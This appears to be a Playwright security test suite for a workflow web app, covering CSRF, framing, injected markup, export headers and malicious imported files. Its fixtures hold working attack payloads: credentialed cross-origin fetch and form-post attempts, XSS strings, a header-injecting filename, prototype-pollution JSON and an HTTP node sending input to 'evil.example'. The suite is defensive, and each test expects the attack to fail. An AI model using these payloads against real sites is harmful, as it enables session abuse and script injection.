/** Another page is open in the same browser, somebody sends files, something slips into the page: none of it gets anywhere. */
import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import { edges, node, type Document } from './kit/documents.ts'
import { Editor } from './kit/editor.ts'
import { Neighbour } from './kit/neighbour.ts'
import { expect, test } from './kit/test.ts'
import { zip } from './kit/zip.ts'

const SCRIPT = '<script>window.pwned = 1</script>'
const EVERYTHING = /./

async function choose(page: Page, file: { name: string, mimeType: string, buffer: Buffer }) {
  const chooser = page.waitForEvent('filechooser')
  await page.getByRole('dialog').getByRole('button', { name: /^Choose/ }).click()
  await (await chooser).setFiles(file)
}

/** What a page of the neighbour's tries with the session of whoever is signed in next door; it tells how each attempt ended. */
const ATTEMPTS = `<!doctype html><meta charset="utf-8"><body><script>
async function attack(target) {
  const told = {}
  const tell = async (name, attempt) => { try { told[name] = await attempt() } catch (error) { told[name] = 'refused' } }
  const read = async (path, init) => (await (await fetch(target + path, { credentials: 'include', ...init })).text()).length > 0 ? 'read' : 'empty'
  const body = JSON.stringify({ name: 'planted' })
  await tell('read', () => read('/api/workflows'))
  await tell('read the session', () => read('/api/auth/me'))
  await tell('read a file', () => read('/openapi.json'))
  await tell('write JSON', () => read('/api/workflows', { method: 'POST', body, headers: { 'content-type': 'application/json', 'x-csrf-token': 'x' } }))
  await tell('write as text', () => read('/api/workflows', { method: 'POST', body, headers: { 'content-type': 'text/plain' } }))
  for (const mode of ['text/plain', 'application/x-www-form-urlencoded'])
    await fetch(target + '/api/workflows', { method: 'POST', mode: 'no-cors', credentials: 'include', body, headers: { 'content-type': mode } }).catch(() => {})
  await fetch(target + '/api/auth/sign-out', { method: 'POST', mode: 'no-cors', credentials: 'include' }).catch(() => {})
  const load = element => new Promise(done => { element.onload = () => done('loaded'); element.onerror = () => done('refused'); document.body.append(element) })
  await tell('run an answer as a script', () => load(Object.assign(document.createElement('script'), { src: target + '/api/workflows' })))
  await tell('show an answer as an image', () => load(Object.assign(new Image(), { src: target + '/api/workflows' })))
  await tell('follow the events', () => new Promise(done => {
    const events = new EventSource(target + '/api/runs/x/events', { withCredentials: true })
    events.onopen = () => done('read'); events.onerror = () => { events.close(); done('refused') }
  }))
  return told
}
function post(target, enctype) {
  const form = Object.assign(document.createElement('form'), { method: 'post', action: target + '/api/workflows', enctype })
  form.append(Object.assign(document.createElement('input'), { name: '{"name":"planted","x":"', value: '"}' }))
  document.body.append(form)
  form.submit()
}
</script>`

for (const host of ['127.0.0.1', 'localhost'] as const) {
  test(`a page at another port of ${host} reads nothing, changes nothing and ends no session`, async ({ page, api, guard, flyback }) => {
    guard.allow(EVERYTHING)
    const neighbour = await Neighbour.opens(ATTEMPTS)
    const before = await api.get<{ total: number }>('/workflows')
    await page.goto(neighbour.at(host))
    const told = await page.evaluate(target => (window as unknown as { attack: (target: string) => Promise<Record<string, string>> }).attack(target), flyback.baseUrl)
    expect(told).toEqual(Object.fromEntries(Object.keys(told).map(attempt => [attempt, 'refused'])))
    expect(Object.keys(told)).toHaveLength(8)
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      await page.goto(neighbour.at(host))
      const answer = page.waitForResponse(response => response.url() === `${flyback.baseUrl}/api/workflows`)
      await page.evaluate(([target, kind]) => { (window as unknown as { post: (target: string, kind: string) => void }).post(target ?? '', kind ?? '') }, [flyback.baseUrl, enctype])
      expect((await answer).status()).toBe(403)
      await page.waitForURL(`${flyback.baseUrl}/api/workflows`)
    }
    neighbour.close()
    expect(await api.get<{ total: number }>('/workflows')).toEqual(before)
    // Who is signed in still is, and a link from elsewhere still leads in.
    await page.goto('/workflows')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  })
}

test('the page cannot be framed, so that nobody clicks in it without knowing', async ({ page, guard, flyback }) => {
  guard.allow(EVERYTHING)
  const into = (tag: string) => tag === 'object' ? `<object data="${flyback.baseUrl}/workflows"></object>` : `<${tag} src="${flyback.baseUrl}/workflows"></${tag}>`
  const neighbour = await Neighbour.opens(['iframe', 'embed', 'object'].map(into).join(''))
  await page.goto(neighbour.at(), { waitUntil: 'networkidle' })
  for (const frame of page.frames().filter(one => one !== page.mainFrame())) {
    expect(frame.url()).not.toContain(flyback.baseUrl)
    await expect(frame.locator('#app, main, button')).toHaveCount(0)
  }
  neighbour.close()
})

test('what slips into the page as markup does not run, reaches nobody, and sends nothing off', async ({ page, guard }) => {
  guard.allow(EVERYTHING)
  const neighbour = await Neighbour.opens(SCRIPT)
  await page.goto('/workflows')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const told = await page.evaluate(async (elsewhere) => {
    const broken: string[] = []
    addEventListener('securitypolicyviolation', event => broken.push(event.effectiveDirective))
    const put = <T extends HTMLElement>(tag: string, facts: object): T => {
      const made = Object.assign(document.createElement(tag), facts) as T
      document.body.append(made)
      return made
    }
    put('script', { textContent: 'window.pwned = 1' })
    put('script', { src: `${elsewhere}a.js` })
    put('script', { src: 'data:text/javascript,window.pwned = 2' })
    put('div', { innerHTML: '<img src="/x" onerror="window.pwned = 3"><button onclick="window.pwned = 4" id="planted"></button>' })
    document.getElementById('planted')?.click()
    put<HTMLAnchorElement>('a', { href: 'javascript:window.pwned = 5' }).click()
    put('iframe', { srcdoc: '<script>parent.pwned = 6</script>' })
    put('iframe', { src: elsewhere })
    put('object', { data: elsewhere })
    put('link', { rel: 'stylesheet', href: `${elsewhere}a.css` })
    put('img', { src: `${elsewhere}pixel.png` })
    put('base', { href: elsewhere })
    const form = put<HTMLFormElement>('form', { action: elsewhere, method: 'post' })
    form.submit()
    await fetch(`${elsewhere}take?it`, { mode: 'no-cors' }).catch(() => undefined)
    navigator.sendBeacon(`${elsewhere}beacon`)
    await new Promise(done => setTimeout(done, 300))
    return { broken, base: document.baseURI, pwned: (window as { pwned?: number }).pwned }
  }, neighbour.at())
  expect(told.pwned).toBeUndefined()
  expect(told.base).not.toContain(neighbour.at())
  for (const directive of ['script-src-elem', 'script-src-attr', 'frame-src', 'object-src', 'style-src-elem', 'img-src', 'base-uri', 'form-action', 'connect-src'])
    expect(told.broken).toContain(directive)
  expect(neighbour.asked).toEqual([])
  neighbour.close()
})

test('an export is a file to keep, whatever the workflow is called', async ({ page, api, context }) => {
  const { id } = await api.save({ name: `"; filename="x.html\r\n${SCRIPT}`, mode: 'DAG', graphData: { nodes: [], edges: [] } } as unknown as Document)
  const answer = await context.request.get(`/api/workflows/${id}/export`)
  expect(answer.headers()['x-content-type-options']).toBe('nosniff')
  expect(answer.headers()['content-type']).toMatch(/^application\/json/)
  expect(answer.headers()['content-disposition']).toMatch(/^attachment; filename="[^"]*\.json"; filename\*=UTF-8''[^"\s;]*\.json$/)
  await page.goto('/workflows')
  const downloading = page.waitForEvent('download')
  await page.evaluate((path) => { location.href = path }, `/api/workflows/${id}/export`)
  const download = await downloading
  expect(download.suggestedFilename()).toMatch(/\.json$/)
  expect(JSON.parse(await readFile(await download.path(), 'utf8'))).toHaveProperty('graphData')
})

test('a picture or a page inside a skill is text, also at its own address', async ({ page, api, guard, flyback }) => {
  guard.allow(/status of 4\d\d/)
  const picture = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned = 1"><script>window.pwned = 2</script></svg>`
  const archive = zip({ 'art/SKILL.md': '---\nname: art\ndescription: Pictures.\n---\nLook.', 'art/logo.svg': picture, 'art/index.html': SCRIPT, 'art/run.js': 'window.pwned = 3' })
  await page.goto('/skills')
  await page.getByRole('button', { name: 'Upload' }).click()
  await choose(page, { name: 'art.zip', mimeType: 'application/zip', buffer: archive })
  await expect(page.getByRole('heading', { level: 1, name: 'art' })).toBeVisible()
  for (const path of ['logo.svg', 'index.html', 'run.js']) {
    const answer = await page.goto(`/api/skills/art/file?path=${path}`)
    expect(answer?.headers()['x-content-type-options']).toBe('nosniff')
    expect(answer?.headers()['content-type']).toMatch(/^application\/json/)
    expect(answer?.headers()['content-security-policy']).toContain('default-src \'none\'')
    expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined()
  }
  await page.goto(`${flyback.baseUrl}/skills/art`)
  await expect(page.getByLabel('SKILL.md')).toBeVisible()
  await expect(page.getByText('logo.svg')).toBeVisible()
  await expect(page.locator('main :is(svg[onload], iframe, object, embed, script)')).toHaveCount(0)
  await api.delete('/skills/art')
})

test('a workflow file that somebody sent is drawn as text, and nothing of it goes off by itself', async ({ page, api }) => {
  const label = '<img src=x onerror=window.pwned=1>'
  const sent: Document & Record<string, unknown> = {
    name: `Sent ${label}`, mode: 'AGENTIC', description: SCRIPT, owner: 'somebody-else', id: 'mine-now', graphData: {
      nodes: [
        node('in', 'userInput', 0, 0, { label, variables: [{ name: 'q', label, type: 'text', default: SCRIPT }] }),
        node('call', 'http', 280, 0, { label: 'Call', url: 'https://evil.example/{{q}}' }),
        node('code', 'code', 280, 160, { label: 'Code', source: 'while True:\n    pass' }),
        node('say', 'llm', 560, 0, { label: '\u202egnp.exe', userPrompt: '{{constructor.constructor("window.pwned = 2")()}}', color: 'url(https://evil.example/c)' }),
        node('note', 'note', 0, 220, { text: `[a](javascript:window.pwned=3) [b](data:text/html,${SCRIPT}) [c](vbscript:x) ![d](https://evil.example/p.png) ${SCRIPT}` }),
        node('out', 'output', 840, 0, { label: 'Out', template: '{{say.text}}' }),
      ],
      edges: edges('in -> call', 'call -> code', 'code -> say', 'say -> out'),
    },
  }
  const text = JSON.stringify(sent).replace('"mode"', '"__proto__":{"isAdmin":true},"constructor":{"prototype":{"pwned":1}},"mode"')
  await page.goto('/workflows')
  await page.getByRole('button', { name: 'Import' }).click()
  await choose(page, { name: 'sent.json', mimeType: 'application/json', buffer: Buffer.from(text) })
  await page.getByRole('dialog').getByRole('link', { name: /^Open “Sent <img/ }).click()
  await expect(page).toHaveURL(/\/workflows\/[\w-]+$/)
  const id = page.url().split('/').at(-1) ?? ''
  expect(id).not.toBe('mine-now')
  await expect(new Editor(page).nodes).toHaveCount(6)
  expect(await page.evaluate(() => ({ pwned: (window as { pwned?: number }).pwned, polluted: ({} as { isAdmin?: boolean }).isAdmin }))).toEqual({})
  await expect(page.locator('main :is(script, iframe, object, embed), main [onerror], main [onload]')).toHaveCount(0)
  const links = await page.locator('main a[href]').evaluateAll(found => found.map(link => (link as HTMLAnchorElement).protocol))
  expect(links.filter(protocol => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([])
  // It was looked at, and nothing has run.
  expect((await api.get<{ total: number }>(`/runs?workflowId=${id}`)).total).toBe(0)
})
